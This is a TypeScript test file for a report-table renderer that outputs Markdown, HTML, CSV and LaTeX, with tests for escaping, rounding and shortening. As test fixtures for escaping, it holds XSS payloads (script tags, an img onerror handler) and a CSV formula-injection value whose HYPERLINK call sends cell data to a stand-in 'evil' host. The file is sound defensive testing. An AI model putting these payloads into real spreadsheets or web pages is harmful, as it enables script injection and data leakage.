import { describe, expect, it } from 'vitest';
import { dataFrameToTable, tableToDataFrame } from '../../lib/report/data-frame.js';
import { cutAtWord, escapeLatex, formatCell, keyHash, shortKey, toCsv, toHtml, toLatex, toMarkdown } from '../../lib/report/render-table.js';
import type { Table } from '../../lib/report/table.js';

const table: Table = {
  id: 'table-x',
  caption: 'Costs | peak_SRAM & 100%',
  columns: ['Model', 'MACs', 'Acc (%)', 'Note'],
  rows: [
    ['a|b', 1234567, 0.91234, 'x, "quoted"'],
    ['peak_SRAM & 100%', null, 12.5, null],
    ['c', 42, null, 'line'],
  ],
  notes: ['Source: run 1.'],
};

describe('formatCell', () => {
  it('groups integers, keeps up to 4 decimals (4 significant digits below 1), plain for machines', () => {
    expect(formatCell(null)).toBe('');
    expect(formatCell('a|b')).toBe('a|b');
    expect(formatCell(0)).toBe('0');
    expect(formatCell(-0)).toBe('0');
    expect(formatCell(42)).toBe('42');
    expect(formatCell(1234567)).toBe('1,234,567');
    expect(formatCell(-1234.5)).toBe('-1,234.5');
    expect(formatCell(12345.678)).toBe('12,345.678');
    expect(formatCell(3.14159265)).toBe('3.1416');
    expect(formatCell(2.00001)).toBe('2');
    expect(formatCell(0.91234)).toBe('0.9123');
    expect(formatCell(0.000123456)).toBe('0.0001235');
    expect(formatCell(1e-7)).toBe('1e-7');
    expect(formatCell(1.23456e-9)).toBe('1.235e-9');
    expect(formatCell(1e21)).toBe('1e+21');
    expect(formatCell(Number.NaN)).toBe('NaN');
    expect(formatCell(1234567.891, 'plain')).toBe('1234567.891');
    expect(formatCell(0.1 + 0.2, 'plain')).toBe('0.30000000000000004');
  });
});

describe('table renderers', () => {
  it('Markdown: bold caption, ---: under number columns, escaped pipes, dashes for null, notes below', () => {
    expect(toMarkdown(table)).toBe(
      [
        '**Costs \\| peak_SRAM &amp; 100%**', // & as &amp; (Markdown cells are HTML-escaped: untrusted text)
        '',
        '| Model | MACs | Acc (%) | Note |',
        '| --- | ---: | ---: | --- |',
        '| a\\|b | 1,234,567 | 0.9123 | x, "quoted" |',
        '| peak_SRAM &amp; 100% | — | 12.5 | — |',
        '| c | 42 | — | line |',
        '',
        'Source: run 1.',
        '',
      ].join('\n'),
    );
  });

  it('HTML: caption, thead, class="num" on numbers, escaped ASCII text', () => {
    expect(toHtml(table)).toBe(
      [
        '<table id="table-x">',
        '<caption>Costs | peak_SRAM &amp; 100%</caption>',
        '<thead>',
        '<tr><th>Model</th><th class="num">MACs</th><th class="num">Acc (%)</th><th>Note</th></tr>',
        '</thead>',
        '<tbody>',
        '<tr><td>a|b</td><td class="num">1,234,567</td><td class="num">0.9123</td><td>x, &quot;quoted&quot;</td></tr>',
        '<tr><td>peak_SRAM &amp; 100%</td><td class="num null">&#8212;</td><td class="num">12.5</td><td class="null">&#8212;</td></tr>',
        '<tr><td>c</td><td class="num">42</td><td class="num null">&#8212;</td><td>line</td></tr>',
        '</tbody>',
        '<tfoot>',
        '<tr><td colspan="4">Source: run 1.</td></tr>',
        '</tfoot>',
        '</table>',
        '',
      ].join('\n'),
    );
    const tricky = toHtml({ id: 'a"b', caption: '<script>alert(1)</script> ≤ 320 KiB', columns: ['x'], rows: [["it's"]] });
    expect(tricky).toContain('<table id="a&quot;b">');
    expect(tricky).toContain('<caption>&lt;script&gt;alert(1)&lt;/script&gt; &#8804; 320 KiB</caption>');
    expect(tricky).toContain('<td>it&#39;s</td>');
    expect(/[^\x00-\x7f]/.test(tricky)).toBe(false);
  });

  it('CSV: RFC 4180 quoting, CRLF records, plain numbers, empty fields for null', () => {
    expect(toCsv(table)).toBe(
      'Model,MACs,Acc (%),Note\r\n' + 'a|b,1234567,0.91234,"x, ""quoted"""\r\n' + 'peak_SRAM & 100%,,12.5,\r\n' + 'c,42,,line\r\n',
    );
    expect(toCsv({ id: 't', caption: '', columns: ['a b', ' lead'], rows: [['two\nlines', 'x']] })).toBe('a b," lead"\r\n"two\nlines",x\r\n');
  });

  it('LaTeX: booktabs float, specials escaped, r for number columns, -- for null, numbers rounded as Markdown shows them', () => {
    expect(toLatex(table)).toBe(
      [
        '\\begin{table}',
        '\\centering',
        '\\caption{Costs \\textbar{} peak\\_SRAM \\& 100\\%}',
        '\\label{tab:table-x}',
        '\\begin{tabular}{l r r l}',
        '\\toprule',
        'Model & MACs & Acc (\\%) & Note \\\\',
        '\\midrule',
        // 0.91234 prints as Markdown's 0.9123 (issue 19: LaTeX printed NASWOT 215.27810348074536 whole); no thousands commas
        'a\\textbar{}b & 1234567 & 0.9123 & x, "quoted" \\\\',
        'peak\\_SRAM \\& 100\\% & -- & 12.5 & -- \\\\',
        'c & 42 & -- & line \\\\',
        '\\bottomrule',
        '\\end{tabular}',
        '\\par\\smallskip',
        '{\\footnotesize Source: run 1.\\par}',
        '\\end{table}',
        '',
      ].join('\n'),
    );
    expect(escapeLatex('~^\\{}#$_&%')).toBe('\\textasciitilde{}\\textasciicircum{}\\textbackslash{}\\{\\}\\#\\$\\_\\&\\%');
    expect(escapeLatex('acc ↑, SRAM ≤ 320 KiB')).toBe('acc $\\uparrow$, SRAM $\\leq$ 320 KiB');
    expect(toLatex({ id: 'fig 1/a', caption: 'c', columns: ['k'], rows: [] })).toContain('\\label{tab:fig-1-a}');
  });
});

describe('rounding in every printed table (issue 19)', () => {
  it('an unrounded cell prints as 215.2781 in Markdown, HTML and LaTeX, and whole in CSV', () => {
    const raw: Table = { id: 'raw', caption: 'raw', columns: ['NASWOT', 'MACs'], rows: [[215.27810348074536, 18062016]] };
    expect(toMarkdown(raw)).toContain('| 215.2781 | 18,062,016 |');
    expect(toHtml(raw)).toContain('<td class="num">215.2781</td><td class="num">18,062,016</td>');
    expect(toLatex(raw)).toContain('\n215.2781 & 18062016 \\\\\n');
    expect(toLatex(raw)).not.toContain('215.27810348074536');
    expect(toCsv(raw)).toBe('NASWOT,MACs\r\n215.27810348074536,18062016\r\n');
    expect(formatCell(-1234.56789, 'rounded')).toBe('-1234.5679');
    expect(formatCell(0.000123456, 'rounded')).toBe('0.0001235');
  });
});

describe('shortening for display, whole in CSV', () => {
  const key = 'in3|dwk3s2se0relu6o24n|dwk3s1se0relu6o24i|e96k5s2se24leakyreluo96n';
  const message = 'Estimated peak SRAM is 400.0 KiB, above the limit of 320.0 KiB. Use stride 2 earlier, or smaller expansion_factor and output_channels in early stages.';
  const t: Table = {
    id: 'short',
    caption: 'c',
    columns: ['Key', 'Example message'],
    rows: [[key, message]],
    shorten: { Key: { kind: 'key', max: 24 }, 'Example message': { kind: 'words', max: 60 } },
  };

  it('cutAtWord: whole words up to max - 1 characters and an ellipsis', () => {
    // by hand: the first 59 characters are "Estimated peak SRAM is 400.0 KiB, above the limit of 320.0 "
    expect(cutAtWord(message, 60)).toBe('Estimated peak SRAM is 400.0 KiB, above the limit of 320.0…');
    expect(cutAtWord('short text', 60)).toBe('short text');
    expect(cutAtWord('one two three', 8)).toBe('one two…'); // "one two " ends on a boundary
    expect(cutAtWord('one two three', 7)).toBe('one…');
    expect(cutAtWord('abcdefghijklmnop', 6)).toBe('abcde…'); // one long word: cut inside it
    for (let max = 5; max < message.length; max += 7) {
      const cut = cutAtWord(message, max);
      expect(cut.length).toBeLessThanOrEqual(max);
      expect(message.startsWith(cut.slice(0, -1))).toBe(true);
      expect(/\s/.test(message[cut.length - 1] ?? ' ') || cut.length - 1 === max - 1).toBe(true); // ends at a word end
    }
  });

  it('keyHash is FNV-1a 32 as published (the FNV test vectors), 8 hex digits; shortKey ends with its first 6', () => {
    // Fowler/Noll/Vo's FNV-1a 32-bit test vectors (isthe.com/chongo/src/fnv/test_fnv.c).
    expect(keyHash('')).toBe('811c9dc5');
    expect(keyHash('a')).toBe('e40c292c');
    expect(keyHash('foobar')).toBe('bf9cf968');
    expect(shortKey(key)).toBe(`${key.slice(0, 12)}…${keyHash(key).slice(0, 6)}`);
  });

  it('Markdown, HTML and LaTeX shorten; CSV keeps the key and the message whole', () => {
    const short = shortKey(key);
    expect(short).toMatch(/^in3\|dwk3s2se…[0-9a-f]{6}$/); // first 12 characters, …, 6 hex digits
    expect(toMarkdown(t)).toContain(`| ${short.replace('|', '\\|')} | Estimated peak SRAM is 400.0 KiB, above the limit of 320.0… |`);
    expect(toHtml(t)).toContain(`<td title="${key}">in3|dwk3s2se&#8230;`);
    expect(toLatex(t)).toContain('320.0\\ldots{} \\\\');
    expect(toCsv(t)).toBe(`Key,Example message\r\n${key},"${message}"\r\n`);
  });

  it('a table without rows that says why prints that line, never a header without rows', () => {
    const empty: Table = { id: 'rejections', caption: 'Why proposals were rejected', columns: ['Reason', 'Count'], rows: [], empty: 'none: every proposal passed' };
    expect(toMarkdown(empty)).toBe('**Why proposals were rejected**\n\nnone: every proposal passed\n');
    expect(toHtml(empty)).toBe(
      '<table id="rejections">\n<caption>Why proposals were rejected</caption>\n<tbody>\n<tr><td class="empty" colspan="2">none: every proposal passed</td></tr>\n</tbody>\n</table>\n',
    );
    expect(toLatex(empty)).not.toContain('tabular');
    expect(toLatex(empty)).toContain('\\label{tab:rejections}\nnone: every proposal passed\n\\end{table}');
    expect(toCsv(empty)).toBe('Reason,Count\r\n');
  });
});

describe('untrusted text in data files and Markdown (a run directory name, a trainer message)', () => {
  it('CSV: a text cell or header starting with = + - @ TAB or CR gets a leading quote; number cells never do', () => {
    const t: Table = {
      id: 'failures',
      caption: 'c',
      columns: ['=cmd', 'Message', 'n'],
      rows: [
        ['a', '=1+1', -5],
        ['b', '-x', 0.5],
        ['c', '@a', -0],
        ['d', '+a', -5.25],
        ['e', '-5', -1e-7],
        ['f', '\tcmd', null],
        ['g', '\rx', 1],
        ['h', '=HYPERLINK("http://evil/?"&A1,"x")', 2],
        ['i', 'a=b; x-y @z +w', 3],
      ],
    };
    expect(toCsv(t)).toBe(
      [
        "'=cmd,Message,n",
        "a,'=1+1,-5", // the number -5 stays -5
        "b,'-x,0.5",
        "c,'@a,0",
        "d,'+a,-5.25",
        "e,'-5,-1e-7", // text "-5" is text: quoted; the number -1e-7 is not
        "f,'\tcmd,",
        `g,"'\rx",1`, // then quoted as usual (a line break)
        `h,"'=HYPERLINK(""http://evil/?""&A1,""x"")",2`,
        'i,a=b; x-y @z +w,3', // only the first character counts
        '',
      ].join('\r\n'),
    );
  });

  it('Markdown: < > & as HTML entities in caption, header, cells and notes; pipes still escaped; line breaks the only markup', () => {
    const t: Table = {
      id: 'table-iii',
      caption: 'Run <script>alert(1)</script>',
      columns: ['Run <dir>', 'Message'],
      rows: [
        ['runs/<img src=x onerror=alert(1)>', 'a & b | c <b>bold</b>\nnext'],
        ['&lt;', '<<<<<<<<<<<<<<<<<<<<'],
      ],
      shorten: { Message: { kind: 'words', max: 10 } },
      notes: ['x > y'],
    };
    const md = toMarkdown(t);
    expect(md).toBe(
      [
        '**Run &lt;script&gt;alert(1)&lt;/script&gt;**',
        '',
        '| Run &lt;dir&gt; | Message |',
        '| --- | --- |',
        // cut at 10 characters (…) before escaping, so no entity is cut in half
        '| runs/&lt;img src=x onerror=alert(1)&gt; | a &amp; b \\| c… |',
        `| &amp;lt; | ${'&lt;'.repeat(9)}… |`, // an entity-looking text stays text
        '',
        'x &gt; y',
        '',
      ].join('\n'),
    );
    expect(toMarkdown({ id: 't', caption: 'c', columns: ['m'], rows: [['<i>a</i>\nb']] })).toContain('| &lt;i&gt;a&lt;/i&gt;<br>b |');
    expect(md.replaceAll('<br>', '')).not.toMatch(/[<>]/);
    // HTML and LaTeX were already escaped
    expect(toHtml(t)).toContain('<td>runs/&lt;img src=x onerror=alert(1)&gt;</td>');
    expect(toLatex(t)).toContain('runs/\\textless{}img src=x onerror=alert(1)\\textgreater{}');
  });
});

describe('danfojs round trip', () => {
  it('keeps columns (index renamed while in the frame), strings, numbers and nulls', () => {
    const t: Table = {
      id: 'rt',
      caption: 'round trip',
      columns: ['index', 'index_', 'name', 'value'],
      rows: [
        [0, 'a', 'x|y', 1.5],
        [1, 'b', 'peak_SRAM & 100%', null],
        [2, null, 'z', 123456789],
      ],
    };
    const df = tableToDataFrame(t);
    expect(df.columns).toEqual(['index_', 'index__', 'name', 'value']);
    expect(df.shape).toEqual([3, 4]);
    expect(df.column('name').values).toEqual(['x|y', 'peak_SRAM & 100%', 'z']);
    expect(dataFrameToTable(df, 'rt', 'round trip')).toEqual(t);
  });

  it('round-trips a table without rows, and refuses duplicate column names', () => {
    const empty: Table = { id: 'e', caption: 'empty', columns: ['a', 'b'], rows: [] };
    expect(dataFrameToTable(tableToDataFrame(empty), 'e', 'empty')).toEqual(empty);
    expect(() => tableToDataFrame({ id: 'd', caption: '', columns: ['a', 'a'], rows: [[1, 2]] })).toThrow(/appears twice/);
  });
});
